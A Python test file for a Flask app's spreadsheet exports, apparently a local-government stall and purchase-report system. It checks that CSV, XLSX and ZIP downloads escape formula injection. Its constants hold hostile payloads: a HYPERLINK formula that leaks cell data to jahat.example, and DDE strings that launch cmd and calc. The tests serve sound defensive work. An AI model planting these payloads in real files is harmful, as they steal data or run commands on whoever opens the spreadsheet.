"""No download carries a live formula.

Hostile text is typed through the real forms (stall registration, categories, the roster
import, the report form, the stall import), then every GET route of the URL map is opened
with every value its arguments can take, as staff, merchant and ASN. Each answer that is a
spreadsheet is read back with `csv` or openpyxl: no formula cell, no CSV cell a spreadsheet
would evaluate, and the typed text shown unchanged apart from CSV's leading `'`. A new
export is found by the walk, so it cannot be missed.
"""

import csv
import io
import itertools
import zipfile

from openpyxl import load_workbook
from sqlalchemy import select

from promkm_qr.core.cells import FORMULA_START
from promkm_qr.dinas.dashboard import EXPORTS
from promkm_qr.extensions import db
from promkm_qr.models import Category, Job, PurchaseReport, Stall, User
from promkm_qr.stalls.links import link_token
from tests.asn.conftest import jpeg_bytes, open_form, post, report_data
from tests.conftest import csrf_token, login
from tests.factories import _HASH, kelurahan, make_merchant, make_staff
from tests.stalls.test_importer import _finished

STALL = '=HYPERLINK("http://jahat.example/?d="&A1,"Klik")'
CATEGORY = "+1+cmd|' /C calc'!A0"
ASN_NAME = "-2+3 Budi"
OPD = "@SUM(1+1)*cmd|' /C calc'!A0"
GOODS = "=1+1 nasi pecel"
IMPORTED = "@sum(a1:a9)"  # the import lowercases a category before naming it
NIP = "199203152019032004"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _form_post(client, page: str, url: str, **data):
    response = client.post(url, data={"csrf_token": csrf_token(client, page), **data})
    assert response.status_code in (200, 302), (url, response.status_code)
    return response


def _type_hostile_text(app) -> dict:
    """Hostile text in every field an export shows, each typed through its real form."""
    staff, merchant, asn = app.test_client(), app.test_client(), app.test_client()
    make_staff("admin", username="admin")
    assert login(staff, "dinas", "admin").status_code == 302
    _form_post(staff, "/dinas/kategori", "/dinas/kategori", name=CATEGORY)
    roster = f"NIP;Nama;OPD;Kelas Jabatan;Golongan;TPP\n{NIP};{ASN_NAME};{OPD};Pelaksana;III/a;\n"
    response = staff.post(
        "/dinas/asn",
        data={
            "csrf_token": csrf_token(staff, "/dinas/asn"),
            "berkas": (io.BytesIO(roster.encode()), "roster.csv"),
        },
        content_type="multipart/form-data",
    )
    assert response.status_code == 302
    # The roster's ASN would set a password with the activation code; set here directly.
    db.session.scalar(select(User).where(User.nip == NIP)).password_hash = _HASH
    make_merchant(phone="081200000001")
    assert login(merchant, "merchant", "081200000001").status_code == 302
    category = db.session.scalar(select(Category).where(Category.name == CATEGORY))
    _form_post(
        merchant,
        "/umkm/lapak/daftar",
        "/umkm/lapak/daftar",
        name=STALL,
        kelurahan_id=str(kelurahan().id),
        category_id=str(category.id),
        owner_nik="3577014107850002",
    )
    stall = db.session.scalar(select(Stall).where(Stall.name == STALL))
    _form_post(
        staff, f"/dinas/lapak/{stall.id}", f"/dinas/lapak/{stall.id}/status", status="active"
    )
    assert login(asn, "asn", NIP).status_code == 302
    db.session.refresh(stall)
    form_url = f"/asn/lapor/{link_token(stall.code, stall.poster_version)}"
    tokens = open_form(asn, form_url)
    submitted = post(asn, form_url, report_data(tokens, jpeg_bytes(400, 300), description=GOODS))
    assert submitted.status_code == 302
    report = db.session.scalar(select(PurchaseReport))
    # Disputed, so the review queue's export lists it.
    _form_post(merchant, "/umkm/", f"/umkm/laporan/{report.id}/sanggah", reason="other")
    rows = f"Nama Usaha,NIK Pemilik,Kelurahan,Kategori\nLapak,3577014107850002,Kelun,{IMPORTED}\n"
    response = staff.post(
        "/dinas/impor",
        data={
            "csrf_token": csrf_token(staff, "/dinas/impor"),
            "file": (io.BytesIO(rows.encode()), "lapak.csv"),
        },
        content_type="multipart/form-data",
    )
    assert _finished(response.headers["Location"]).result_key
    # The ASN's "Unduh data saya" archive, made by the worker, holds CSV files too.
    _form_post(asn, "/data-saya", "/data-saya")
    export = db.session.scalar(select(Job).where(Job.kind == "data_export"))
    assert _finished(f"/dinas/jobs/{export.id}").result_key
    return {"staff": staff, "merchant": merchant, "asn": asn}


# What each download must show of the hostile text: exact cells, or inside a message.
SHOWN = {
    "laporan": {STALL, OPD, ASN_NAME},
    "lapak": {STALL, CATEGORY},
    "asn": {ASN_NAME, OPD},
    "tinjauan": {STALL},
    "merchant.reports_csv": {GOODS, ASN_NAME, OPD},
    "roster_import": {ASN_NAME, OPD},
    "personal_data.download": {STALL, GOODS, ASN_NAME, OPD},
}
QUOTED = {"import": {IMPORTED}}  # the import's error report names the unknown category


def _argument_values() -> dict[str, list]:
    """Every value a route argument can take in this world (no document has been made)."""
    ids = lambda model: list(db.session.scalars(select(model.id)))  # noqa: E731
    return {
        "kind": list(EXPORTS),
        "fmt": ["csv", "xlsx"],
        "job_id": ids(Job),
        "report_id": ids(PurchaseReport),
        "stall_id": ids(Stall),
        "user_id": ids(User),
        "asn_id": ids(User),
        "token": [link_token(s.code, s.poster_version) for s in db.session.scalars(select(Stall))],
        "filename": ["app.css"],
        "name": ["jsQR.js"],
        "doc_id": [],
        "public_id": [],
        "client_id": [],
        "subscription_id": [],
        "delivery_id": [],
        "document_id": [],
    }


def _sheet(response) -> str | None:
    """csv or xlsx when the answer is a spreadsheet."""
    disposition = response.headers.get("Content-Disposition", "")
    if response.mimetype == "text/csv" or disposition.rstrip('"').endswith(".csv"):
        return "csv"
    if response.mimetype == XLSX or disposition.rstrip('"').endswith(".xlsx"):
        return "xlsx"
    if response.mimetype == "application/zip":
        return "zip"
    return None


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _csv_cells(data: bytes) -> list[str]:
    """Every cell as the spreadsheet would show it; fails on a cell it would evaluate."""
    text = data.decode("utf-8-sig")
    header = text.split("\n", 1)[0]
    delimiter = ";" if header.count(";") > header.count(",") else ","
    shown = []
    for cell in itertools.chain.from_iterable(csv.reader(io.StringIO(text), delimiter=delimiter)):
        # Only a number may begin with a sign.
        assert not cell.startswith(FORMULA_START) or _number(cell), f"live formula: {cell!r}"
        shown.append(cell[1:] if cell.startswith("'") and cell[1:2] in FORMULA_START else cell)
    return shown


def _xlsx_cells(data: bytes) -> list[str]:
    """Every cell's value; fails on a formula cell."""
    shown = []
    for sheet in load_workbook(io.BytesIO(data)):
        for cell in itertools.chain.from_iterable(sheet.iter_rows()):
            assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
            shown.append("" if cell.value is None else str(cell.value))
    return shown


def _zip_cells(data: bytes) -> list[str]:
    """The cells of every CSV file inside an archive."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.endswith(".csv")]
        assert names, "an archive without CSV files"
        return [cell for name in names for cell in _csv_cells(archive.read(name))]


def test_no_download_carries_a_live_formula(app, worker):
    clients = _type_hostile_text(app)  # the worker runs the stall import
    values = _argument_values()
    job_kinds = dict(db.session.execute(select(Job.id, Job.kind)).all())
    checked = set()
    for rule in app.url_map.iter_rules():
        if "GET" not in rule.methods or rule.endpoint == "auth.logout":
            continue
        names = sorted(rule.arguments)
        assert set(names) <= values.keys(), f"{rule.rule}: give its arguments values here"
        for combo in itertools.product(*(values[name] for name in names)):
            url = rule.build(dict(zip(names, combo, strict=True)), append_unknown=False)[1]
            for client in clients.values():
                response = client.get(url)
                kind = _sheet(response)
                if kind is None:
                    continue
                read = {"csv": _csv_cells, "xlsx": _xlsx_cells, "zip": _zip_cells}[kind]
                cells = read(response.get_data())
                label = {
                    "dinas.export": url.rsplit("/", 1)[-1].split(".")[0],
                    "dinas.job_result": job_kinds.get(url.split("/")[-2]),
                }.get(rule.endpoint, rule.endpoint)
                missing = SHOWN.get(label, set()) - set(cells)
                assert not missing, (url, missing)
                for text in QUOTED.get(label, ()):
                    assert any(text in cell for cell in cells), (url, text)
                checked.add((label, kind))
    expected = {(kind, fmt) for kind in EXPORTS for fmt in ("csv", "xlsx")}
    expected |= {("merchant.reports_csv", "csv"), ("roster_import", "csv"), ("import", "csv")}
    expected.add(("personal_data.download", "zip"))
    assert checked == expected
